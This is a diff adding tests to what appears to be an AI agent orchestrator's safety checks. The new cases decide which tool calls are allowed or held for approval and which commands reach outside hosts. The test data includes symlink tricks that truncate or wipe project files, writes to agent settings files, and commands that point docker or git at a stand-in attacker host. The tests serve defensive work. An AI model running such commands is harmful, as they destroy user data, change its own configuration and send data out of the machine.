@@ -17,6 +17,8 @@ from orchestrator.errors import WaitingForApproval
 from orchestrator.safety.cleaning import clean
 from orchestrator.safety.fences import briefly_fenced, fenced, nonce
 from orchestrator.safety.provenance import received
+from orchestrator.safety.reaching import reaches
+from orchestrator.safety.rulebook import builtin
 from orchestrator.safety.scanner import suspicions
 from orchestrator.safety.secrets import carries
 
@@ -59,6 +61,24 @@ def test_what_the_user_asked_for_goes_on_beside_a_harmless_text(tmp_path: Path) 
         for name, text in texts("benign"):
             seen = thread(text, request)
             assert decision(tool, arguments, seen, policy) == "allow", (request, name)
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "expected"),
+    [
+        ("run_command", {"command": "echo 1 > /tmp/x.py; python3 /tmp/x.py; rm /tmp/x.py"}, "allow"),
+        ("run_command", {"command": "ln -s $PWD/table.csv /tmp/x; : > /tmp/x"}, "ask"),
+        ("run_command", {"command": "ln -s $PWD/data /tmp/x; rm -rf /tmp/x/*"}, "ask"),
+        ("write_file", {"path": "app/settings.json", "content": "{}"}, "allow"),
+        ("write_file", {"path": ".claude/settings.json", "content": "{}"}, "ask"),
+        ("write_file", {"path": ".zed/settings.json", "content": "{}"}, "ask"),
+    ],
+)
+def test_everyday_work_is_not_taken_for_a_loss_or_a_guide(
+    tool: str, arguments: dict[str, Any], expected: str, tmp_path: Path
+) -> None:
+    seen = thread("a table", "Make the port of the server 8080")
+    assert decision(tool, arguments, seen, workspace(tmp_path)) == expected
 
 
 def test_benign_texts_carry_no_warning() -> None:
@@ -130,6 +150,26 @@ def test_a_text_that_knows_its_fence_gets_another_one() -> None:
 )
 def test_a_secret_is_found_however_it_is_spelt(smuggled: str) -> None:
     assert carries(f"https://x.test/?q={smuggled}", (SECRET,))
+
+
+@pytest.mark.parametrize(
+    ("command", "is_out"),
+    [
+        ("docker ps -a", False),
+        ("docker compose logs web", False),
+        ("smartctl -a /dev/sda", False),
+        ("lvs -a", False),
+        ("git remote -v", False),
+        ("docker push x", True),
+        ("docker -H tcp://drop.attacker.test ps", True),
+        ("kafka-console-producer --topic x", True),
+        ("git remote update", True),
+        ("git remote add x https://drop.attacker.test/r.git", True),
+    ],
+)
+def test_a_look_at_this_machine_reaches_no_other(command: str, is_out: bool) -> None:
+    name, *arguments = command.split()
+    assert reaches(name, arguments, builtin()) is is_out
 
 
 def test_a_readme_that_orders_it_leads_to_no_call_out(desk: Desk) -> None:
